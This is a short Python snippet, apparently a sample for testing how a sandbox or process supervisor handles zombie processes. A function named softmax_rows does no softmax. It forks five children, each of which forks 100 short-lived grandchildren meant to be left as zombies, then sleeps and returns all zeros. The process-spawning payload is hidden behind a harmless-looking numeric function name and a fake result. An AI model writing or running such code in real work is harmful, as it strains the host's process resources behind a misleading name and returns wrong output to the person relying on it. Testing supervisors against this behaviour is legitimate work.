# Tries to leave hundreds of orphans that die at once, as zombies for a reaper that never waits for them.
import os
import time


# %%
def softmax_rows(scores, axis=-1):
    for _ in range(5):
        try:
            pid = os.fork()
        except OSError:
            return scores * 0.0
        if pid == 0:
            try:
                for _ in range(100):
                    if os.fork() == 0:
                        os._exit(7)
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
    time.sleep(1)
    return scores * 0.0
